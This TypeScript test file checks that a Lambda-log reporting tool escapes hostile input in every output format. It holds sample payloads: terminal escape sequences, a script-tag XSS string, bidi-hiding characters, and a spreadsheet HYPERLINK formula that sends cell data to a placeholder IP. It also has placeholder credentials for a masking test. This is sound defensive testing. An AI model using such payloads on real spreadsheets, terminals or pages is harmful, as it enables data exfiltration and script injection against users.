import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Ajv2020 } from "ajv/dist/2020.js";
import { describe, expect, test } from "vitest";
import type { Assessment } from "../../packages/lambent/src/model/assessment.ts";
import type { Invocation } from "../../packages/lambent/src/model/invocation.ts";
import { csvRows } from "./csv-rows.ts";
import { failedInvocation, reportLine, reportLines, requestId } from "./log-lines.ts";
import { lambent } from "./run-tool.ts";
import { temporaryFolder } from "./temporary-folder.ts";

const cwd = temporaryFolder();
const schemaUrl = new URL("../../packages/lambent/schema/assessment.schema.json", import.meta.url);
const fitsSchema = new Ajv2020({ strict: true, allowUnionTypes: true }).compile(
  JSON.parse(readFileSync(schemaUrl, "utf8")) as object,
);

async function answer(...args: string[]): Promise<string> {
  const { code, stdout, stderr } = await lambent(args, { cwd });
  expect([code, stderr]).toEqual([0, ""]);
  return stdout;
}

function file(name: string, content: string): string {
  writeFileSync(join(cwd, name), content);
  return name;
}

const logs = file(
  "logs.txt",
  `${reportLines(20, { initDurationMs: 210.25 })}${failedInvocation(20, "No seats left")}`,
);

describe("every form of a report is valid", () => {
  test("json fits the schema, also where there is nothing", async () => {
    const text = await answer("report", logs, "--format", "json");
    const assessment = JSON.parse(text) as Assessment;
    expect([fitsSchema(assessment), fitsSchema.errors]).toEqual([true, null]);
    expect(assessment.totals).toMatchObject({ invocations: 21, errors: 1, coldStarts: 20 });
    const { stdout } = await lambent(["report", file("none.log", ""), "--format", "json"], { cwd });
    expect([fitsSchema(JSON.parse(stdout)), fitsSchema.errors]).toEqual([true, null]);
  });

  test("csv has a header, a line for each function, and the same number of fields", async () => {
    const rows = csvRows(await answer("report", logs, "--format", "csv", "--function", "a,b"));
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(rows[0]?.length ?? 0);
    expect([rows[0]?.[0], rows[1]?.[0]]).toEqual(["function", "a,b"]);
    expect(rows[1]?.[rows[0]?.indexOf("invocations") ?? -1]).toBe("21");
  });

  test("html is one page that asks the network for nothing", async () => {
    const html = await answer("report", logs, "--format", "html", "--function", "orders");
    expect(html).toMatch(/^<!doctype html>\n?<html lang="en"/i);
    expect(html.trimEnd().endsWith("</html>")).toBe(true);
    expect(html).toContain("orders");
    expect(
      found(html, /(?:src|srcset|href|action|data|poster)\s*=\s*["']?\s*(?:https?:)?\/\//i),
    ).toBeNull();
    expect(found(html, /url\(\s*["']?(?:https?:)?\/\/|@import|<iframe\b|<base\b/i)).toBeNull();
    expect(found(html, /<link\b(?! rel="icon" href="data:)/i)).toBeNull();
    expect(html).toMatch(/http-equiv="Content-Security-Policy"/i);
  });

  test("markdown has headings, and tables whose rows are as wide as their headers", async () => {
    const text = await answer("report", logs, "--format", "markdown");
    expect(text).toMatch(/^# /m);
    const lines = text.split("\n");
    const tables = lines.flatMap((line, index) =>
      /^\|(?: ?:?-+:? ?\|)+$/.test(line) ? [index] : [],
    );
    expect(tables.length).toBeGreaterThan(0);
    for (const at of tables) {
      const width = cells(lines[at - 1]);
      expect(width).toBe(cells(lines[at]));
      expect(cells(lines[at + 1])).toBe(width);
    }
  });

  test("text is plain where nobody looks at it", async () => {
    const text = await answer("report", logs);
    expect(text).toContain("21");
    expect(text).not.toContain("\u001b");
  });
});

describe("every form of the invocations is valid", () => {
  test("jsonl, json and csv say the same", async () => {
    const lines = (await answer("invocations", logs)).trimEnd().split("\n");
    const records = lines.map((line) => JSON.parse(line) as Invocation);
    expect(records).toHaveLength(21);
    expect(records[20]).toMatchObject({
      requestId: requestId(20),
      status: "error",
      failure: { class: "unhandled-exception", message: expect.stringContaining("No seats left") },
    });
    expect(JSON.parse(await answer("invocations", logs, "--format", "json"))).toEqual(records);
    const [header, ...rows] = csvRows(await answer("invocations", logs, "--format", "csv"));
    const column = (name: string): (string | undefined)[] =>
      rows.map((row) => row[header?.indexOf(name) ?? -1]);
    expect(column("requestId")).toEqual(records.map((one) => one.requestId));
    expect(column("costUsd")).toEqual(records.map((one) => String(one.costUsd)));
    expect(column("timestamp")).toEqual(
      records.map((one) => new Date(one.timestamp ?? 0).toISOString()),
    );
  });

  test("an empty answer is valid, too", async () => {
    const none = file("empty.log", "");
    const run = async (format: string): Promise<string> =>
      (await lambent(["invocations", none, "--format", format], { cwd })).stdout;
    expect(await run("jsonl")).toBe("");
    expect(JSON.parse(await run("json"))).toEqual([]);
    expect(csvRows(await run("csv"))).toHaveLength(1);
  });
});

/** Controls, and marks that reverse text or hide in it. */
const DRIVES_A_TERMINAL =
  // eslint-disable-next-line no-control-regex -- they are what must not be there
  /[\u0000-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const ESCAPES = "\u001b[2J\u001b]0;owned\u0007\u009b31m\b\u0000";
const SCRIPT = `</pre><script>document.title="owned"</script><img src=x onerror=alert(1)>`;
const BIDI = "\u202egnp.exe\u2066\u200b";
const FORMULA = `=HYPERLINK("http://198.51.100.7/?"&A1,"click")`;

describe("text from logs is inert in every form", () => {
  const messages = [ESCAPES, SCRIPT, BIDI, FORMULA, `+${FORMULA}`, `@SUM(1)`, "| a | b |\n\n# h"];
  const hostileName = "<script>alert(1)</script>=1+1\u001b[31m\u202e";
  const payload = (logGroup: string): string =>
    JSON.stringify({
      messageType: "DATA_MESSAGE",
      owner: "111122223333",
      logGroup,
      logStream: `2026/01/01/[$LATEST]${ESCAPES}${SCRIPT}`,
      subscriptionFilters: [FORMULA],
      logEvents: messages.flatMap((message, index) =>
        failedInvocation(index, message)
          .trimEnd()
          .split("\n")
          .map((line, at) => ({
            id: `${index}-${at}`,
            timestamp: Date.UTC(2026, 0, 1) + index,
            message: line.slice(25),
          })),
      ),
    });
  const hostile = file("hostile.json", payload(`/aws/lambda/${hostileName.replaceAll("/", "")}`));
  // Only what the log leaves unnamed takes the name that is given.
  const unnamed = file("unnamed.json", payload("shared"));

  test.each([
    ["report", "text"],
    ["report", "json"],
    ["report", "csv"],
    ["report", "markdown"],
    ["report", "html"],
    ["invocations", "jsonl"],
    ["invocations", "json"],
    ["invocations", "csv"],
  ])("lambent %s --format %s", async (command, format) => {
    for (const source of [[hostile], [unnamed, "--function", FORMULA]]) {
      const text = await answer(command, ...source, "--format", format);
      expect(text).toMatch(/owned|alert|HYPERLINK/);
      const lineEnds = format === "csv" ? /[\t\r\n]/g : /\n/g;
      expect(found(text.replace(lineEnds, ""), DRIVES_A_TERMINAL)).toBeNull();
      if (format === "html" || format === "markdown") {
        // A code span of Markdown is text.
        const live = format === "html" ? text : text.replace(/`[^`\n]*`/g, "");
        expect(found(live, /<script>(?:document\.title|alert)|<img src=x/i)).toBeNull();
      }
      if (format === "csv") {
        const rows = csvRows(text);
        expect(new Set(rows.map((row) => row.length)).size).toBe(1);
        for (const field of rows.flat()) {
          if (Number.isNaN(Number(field))) expect(field).not.toMatch(/^\s*[=+\-@]/);
        }
      }
      if (command === "invocations" && format !== "csv") {
        const records = (
          format === "json"
            ? JSON.parse(text)
            : text
                .trimEnd()
                .split("\n")
                .map((line) => JSON.parse(line) as unknown)
        ) as Invocation[];
        expect(records).toHaveLength(messages.length);
      }
    }
  });

  test("names of files and problems cannot drive the terminal either", async () => {
    const name = file("\u001b[31mred\u202e.gz", "PK\u0003\u0004 archive");
    const good = file("good.log", reportLine({ index: 0 }));
    for (const format of ["text", "json", "csv", "markdown", "html"]) {
      const { code, stdout, stderr } = await lambent(["report", name, good, "-f", format], { cwd });
      expect(code).toBe(0);
      const all = `${stdout}${stderr}`.replace(/[\r\n]/g, "");
      expect(found(all, DRIVES_A_TERMINAL), format).toBeNull();
      expect(all).toContain("red");
    }
    const missing = await lambent(["report", "\u001b[31mmissing"], { cwd });
    expect(missing.stderr).toContain("\\x1b[31mmissing");
  });
});

describe("secrets in failing lines are masked in every form", () => {
  // Put together at run time, so that no scanner takes this file for a leak.
  const keyId = ["AKIA", "ABCD1234EFGH5678"].join("");
  const secrets = [keyId, "hunter2hunter2", "s3cr3t-in-url", "tok_0123456789abcdef"];
  const secretive = file(
    "secrets.log",
    [
      `The security token of ${keyId} is invalid`,
      `login failed: {"password":"hunter2hunter2"}`,
      "cannot reach postgres://app:s3cr3t-in-url@db.internal:5432/shop",
      "401 for Authorization: Bearer tok_0123456789abcdef",
    ]
      .map((message, index) => failedInvocation(index, message))
      .join(""),
  );

  test.each([
    ["report", "text"],
    ["report", "json"],
    ["report", "csv"],
    ["report", "markdown"],
    ["report", "html"],
    ["invocations", "jsonl"],
    ["invocations", "json"],
    ["invocations", "csv"],
  ])("lambent %s --format %s", async (command, format) => {
    const text = await answer(command, secretive, "--format", format);
    for (const secret of secrets) expect(text).not.toContain(secret);
    if (command === "invocations" || format === "json") {
      expect(text).toContain("db.internal");
      expect(text).toContain("***");
    }
  });
});

/** What of a long text fits, with what stands around it; null where nothing does. */
function found(text: string, pattern: RegExp): string | null {
  const at = text.search(pattern);
  return at < 0 ? null : JSON.stringify(text.slice(Math.max(0, at - 40), at + 80));
}

function cells(line: string | undefined): number {
  return (line ?? "").replaceAll("\\|", "").split("|").length;
}
